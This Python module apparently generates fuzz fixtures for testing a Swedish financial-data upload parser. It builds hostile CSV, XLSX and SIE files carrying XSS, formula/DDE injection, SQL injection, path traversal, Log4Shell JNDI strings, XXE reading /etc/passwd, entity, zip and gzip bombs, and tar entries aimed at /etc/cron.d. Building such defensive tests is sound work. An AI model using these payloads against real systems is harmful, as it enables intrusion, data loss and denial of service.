"""Some 300 files that someone hostile hands in: what each is called, its file name and its bytes.

Made of kinds, not of cases: each hostile word in each field of each container, each odd amount and month, and
structures that lie about what they are. None of it is taken from how the files are read.
"""

from __future__ import annotations

import gzip
import io
import tarfile
import zipfile
from collections.abc import Callable, Iterator
from functools import partial

import xlsxwriter

WORDS = {
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "template": "{{7*7}}{% load x %}${7*7}#{7*7}<%= 7*7 %>",
    "formula": '=HYPERLINK("http://x/?"&A1;"klicka")',
    "formula plus": "+cmd|' /C calc'!A0",
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "header": "a\r\nSet-Cookie: x=1\r\n\r\n<b>",
    "bidi": "Hem\u202etjänst\u2066 norr\u202c",
    "zero width": "Hem\u200bt\u00adjänst\u2060\ufeff",
    "nul": "Hem\x00tjänst",
    "ansi": "\x1b[31mHemtjänst\x1b]0;titel\x07",
    "long": "å" * 100_000,
    "a megabyte": "z1" * 500_000,
    "sql": "'; DROP TABLE socfin_upload; --",
    "path": "../../../../etc/passwd\\..\\..\\win.ini%00.csv",
    "jndi": "${jndi:ldap://x/a}",
    "entity": "&lt;!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;",
    "noncharacters": "\ufffe\uffff\U0010ffff",
    "combining": "e" + "\u0301" * 3_000,
    "url": "javascript:alert(1)",
    "separators": "a\u2028b\u2029c\x85d\x0be",
    "quotes": "\"\"\"'''`",
}
AMOUNTS = (
    *(
        "1e308",
        "1e999",
        "-9e99",
        "NaN",
        "inf",
        "-Infinity",
        "-0",
        "0x10",
        "1_000",
        "٣٤٥",
        "\uff11\uff12\uff13",
        "--5",
        "5-",
    ),
    *(
        "1,2,3",
        "9" * 40,
        "0." + "0" * 400 + "1",
        "1e-400",
        "=1+1",
        "1 000 000 000 000 000 000",
        "½",
        "5%",
        "(5)",
    ),
)
MONTHS = (
    "0000-00",
    "9999-12",
    "2022-13",
    "2022-00",
    "-2022-03",
    "99999999",
    "2022-03-99",
    "\uff12\uff10\uff12\uff12-03",
    "=NOW()",
)
HEADER = (
    "verksamhet",
    "verksamhetsnamn",
    "överordnad",
    "konto",
    "kontonamn",
    "rad",
    "period",
    "månader",
    "scenario",
)
PLAIN = ("511", "Hemtjänst", "", "5020", "Löner", "", "2022-03", "1", "utfall")
OUTSIDE = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><worksheet>&a;</worksheet>'
)
Row = tuple[str, ...]
File = tuple[str, str, Callable[[], bytes]]
"""What it is called, its file name, and what makes its bytes: some are large."""


def every() -> Iterator[File]:
    """Each of them."""
    for kind, word in WORDS.items():
        for field in (0, 1, 4):
            row = (*PLAIN[:field], word, *PLAIN[field + 1 :], "-10", "")
            yield from _contained(f"{kind} in {HEADER[field]}", row)
        yield f"{kind} as a file's name", word[:2_000], partial(_csv, (*PLAIN, "-10", ""), "utf-8")
        yield f"{kind} as SIE", "x.se", partial(_sie, word)
    for amount in AMOUNTS:
        yield from _contained(f"amount {amount[:12]}", (*PLAIN, amount, ""))
    for month in MONTHS:
        yield from _contained(f"month {month}", (*PLAIN[:6], month, *PLAIN[7:], "-10", ""))
    yield from _structures()


def _contained(name: str, row: Row) -> Iterator[File]:
    yield f"{name}, csv", "x.csv", partial(_csv, row, "utf-8")
    yield f"{name}, utf-16", "x.txt", partial(_csv, row, "utf-16")
    yield f"{name}, xlsx", "x.xlsx", partial(_xlsx, row)


def _csv(row: Row, encoding: str) -> bytes:
    quoted = ['"' + cell.replace('"', '""') + '"' for cell in row]
    return f"{';'.join(HEADER)};belopp;prognos_efter\r\n{';'.join(quoted)}\r\n".encode(encoding, "replace")


def _xlsx(row: Row) -> bytes:
    made = io.BytesIO()
    book = xlsxwriter.Workbook(
        made, {"in_memory": True, "strings_to_formulas": False, "strings_to_urls": False}
    )
    sheet = book.add_worksheet()
    for column, (head, cell) in enumerate(zip((*HEADER, "belopp", "prognos_efter"), row, strict=True)):
        sheet.write_string(0, column, head)
        sheet.write_string(1, column, cell[:32_767])
    book.close()
    return made.getvalue()


def _sie(word: str) -> bytes:
    quoted = word.replace('"', '\\"')
    lines = (
        *(
            "#FLAGGA 0",
            "#SIETYP 4",
            f'#FNAMN "{quoted}"',
            "#RAR 0 20220101 20221231",
            f'#KONTO 5020 "{quoted}"',
        ),
        *('#PSALDO 0 202203 5020 {1 "511"} 10.00', f"#RES 0 5020 {quoted}", ""),
    )
    return "\n".join(lines).encode("cp437", "replace")


def _zipped(**members: bytes) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return made.getvalue()


def _with_sheet(sheet: bytes, **more: bytes) -> bytes:
    """A workbook with another first sheet, and more members."""
    whole = io.BytesIO(_xlsx((*PLAIN, "-10", "")))
    with zipfile.ZipFile(whole) as old:
        members = {name: old.read(name) for name in old.namelist()}
    return _zipped(**{**members, "xl/worksheets/sheet1.xml": sheet, **more})


def _structures() -> Iterator[File]:
    yield from _workbooks()
    yield from _disguises()
    yield from _texts()
    yield from _sies()


def _workbooks() -> Iterator[File]:
    book = _xlsx((*PLAIN, "-10", ""))
    yield from (
        ("entity bomb", "x.xlsx", lambda: _with_sheet(_laughs())),
        ("entity from outside", "x.xlsx", lambda: _with_sheet(OUTSIDE)),
        ("zip bomb", "x.xlsx", lambda: _with_sheet(b"<worksheet>" + b"<row/>" * 30_000_000)),
        (
            "nested zips",
            "x.xlsx",
            lambda: _zipped(**{"[Content_Types].xml": _zipped(a=_zipped(b=b"x" * 10_000_000))}),
        ),
        (
            "members outside",
            "x.xlsx",
            lambda: _with_sheet(b"<worksheet/>", **{"../../../tmp/sf-x": b"x", "/etc/x": b"x"}),
        ),
        (
            "macros",
            "x.xlsm",
            lambda: _with_sheet(b"<worksheet/>", **{"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 99}),
        ),
        (
            "links outside",
            "x.xlsx",
            lambda: _with_sheet(b"<worksheet/>", **{"xl/externalLinks/externalLink1.xml": OUTSIDE}),
        ),
        ("deep xml", "x.xlsx", lambda: _with_sheet(b"<a>" * 200_000 + b"</a>" * 200_000)),
        ("half a workbook", "x.xlsx", lambda: book[: len(book) // 2]),
    )


def _disguises() -> Iterator[File]:
    plain, book = _csv((*PLAIN, "-10", ""), "utf-8"), _xlsx((*PLAIN, "-10", ""))
    yield from (
        ("a workbook behind a csv", "x.csv", lambda: plain + book),
        ("a csv behind a workbook", "x.xlsx", lambda: book + plain),
        ("pdf and zip", "x.xlsx", lambda: b"%PDF-1.7\n" + book),
        ("gif and csv", "x.csv", lambda: b"GIF89a" + plain),
        ("elf", "x.csv", lambda: b"\x7fELF" + bytes(range(256)) * 40),
        ("gzip", "x.csv", lambda: gzip.compress(plain)),
        ("gzip bomb", "x.csv.gz", lambda: gzip.compress(b"\0" * 50_000_000)),
        ("tar", "x.tar.gz", _tar),
        ("html as xls", "x.xls", lambda: b"<html><table><tr><td>=cmd|' /C calc'!A0</td></tr></table></html>"),
        ("mhtml", "x.xls", lambda: b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n<html>"),
        ("sylk", "x.csv", lambda: b'ID;PWXL;N;E\r\nC;Y1;X1;K"x";E=CMD()\r\nE\r\n'),
        ("ole", "x.xls", lambda: bytes.fromhex("d0cf11e0a1b11ae1") + b"\xff" * 4_096),
        ("json", "x.json", lambda: b"[" * 100_000),
        ("eml", "x.csv", lambda: b"From: a@b\r\nSubject: =?utf-8?q?=3Cscript=3E?=\r\n\r\n" + plain),
    )


def _texts() -> Iterator[File]:
    plain = _csv((*PLAIN, "-10", ""), "utf-8")
    yield from (
        ("empty", "x.csv", lambda: b""),
        ("byte order mark alone", "x.csv", lambda: b"\xef\xbb\xbf"),
        ("nuls", "x.csv", lambda: b"\0" * 100_000),
        ("utf-32", "x.csv", lambda: _csv((*PLAIN, "-10", ""), "utf-32")),
        ("utf-7", "x.csv", lambda: b"+ADw-script+AD4-;belopp\n1;2\n"),
        ("broken utf-8", "x.csv", lambda: plain.replace(b"Hemtj", b"\xc0\xaf\xed\xa0\x80\xf8")),
        ("half a utf-16", "x.txt", lambda: _csv((*PLAIN, "-10", ""), "utf-16")[:-1]),
        (
            "lone surrogate",
            "x.txt",
            lambda: b"\xff\xfe" + ("a;b\n\ud800;1\n").encode("utf-16-le", "surrogatepass"),
        ),
        ("unclosed quote", "x.csv", lambda: plain + b'"' + b"x;" * 200_000),
        (
            "many columns",
            "x.csv",
            lambda: b";".join(b"a%d" % n for n in range(70_000)) + b"\n" + b";" * 69_999,
        ),
        ("many empty rows", "x.csv", lambda: plain + b";;;;;;;;;;\n" * 300_000),
        ("the same head twice", "x.csv", lambda: plain.replace(b"verksamhetsnamn", b"verksamhet")),
        ("mixed line ends", "x.csv", lambda: plain.replace(b"\r\n", b"\r\r\n\n\r")),
        ("a circle of parents", "x.csv", _circle),
    )


def _sies() -> Iterator[File]:
    yield from (
        (
            "sie without an end",
            "x.se",
            lambda: b'#FLAGGA 0\n#SIETYP 4\n#VER "A" 1 20220301 "' + b"x" * 100_000,
        ),
        (
            "sie with controls",
            "x.se",
            lambda: b'#FLAGGA 0\n#SIETYP 4\n#FNAMN "a\x00\x07\x1b\x1a"\n#RES 0 5020 1.00\n',
        ),
        (
            "sie huge",
            "x.se",
            lambda: b"#FLAGGA 0\n#SIETYP 4\n#RAR 0 20220101 20221231\n#RES 0 5020 " + b"9" * 4_000 + b"\n",
        ),
        (
            "sie deep braces",
            "x.se",
            lambda: b"#FLAGGA 0\n#SIETYP 4\n#PSALDO 0 202203 5020 " + b"{" * 50_000 + b"\n",
        ),
    )


def _laughs() -> bytes:
    bomb = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{bomb}]><worksheet>&l9;</worksheet>'.encode()


def _tar() -> bytes:
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w:gz") as archive:
        archive.addfile(tarfile.TarInfo("../../etc/cron.d/x"))
    return made.getvalue()


def _circle() -> bytes:
    rows = [
        (code, "x", above, "5020", "", "", "2022-03", "1", "utfall")
        for code, above in (("1", "2"), ("2", "1"))
    ]
    return b"".join(_csv((*row, "-10", ""), "utf-8") for row in rows)
